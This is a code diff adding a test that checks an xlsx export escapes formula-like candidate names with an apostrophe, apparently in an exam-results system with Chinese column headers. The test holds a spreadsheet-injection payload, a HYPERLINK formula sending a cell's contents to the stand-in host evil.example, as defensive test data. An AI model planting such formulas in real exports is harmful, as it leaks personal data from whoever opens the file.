@@ -21,3 +21,25 @@ describe('the roster error file', () => {
 		expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
 	});
 });
+
+describe('xlsx exports (成绩公示, 省级上报)', () => {
+	it('a candidate named like a formula comes back from the written xlsx as text with an apostrophe', async () => {
+		const { xlsxTextRows } = await import('./spreadsheet-cells');
+		const { default: writeXlsxFile } = await import('write-excel-file/node');
+		const { readSheet } = await import('read-excel-file/node');
+		const evil = '=HYPERLINK("http://evil.example/?d="&B2,"查看成绩")';
+		const buffer = await writeXlsxFile(
+			xlsxTextRows([
+				['姓名', '证件号码', '成绩'],
+				[evil, '500101********1234', 85],
+				['@SUM(1+1)', '+86', -3]
+			])
+		).toBuffer();
+		const rows = (await readSheet(buffer)) as unknown[][];
+		expect(rows[1][0]).toBe(`'${evil}`);
+		expect(rows[2][0]).toBe(`'@SUM(1+1)`);
+		// Plain numbers stay what they are, as text cells.
+		expect(rows[1][2]).toBe('85');
+		expect(rows[2][1]).toBe('+86');
+	});
+});
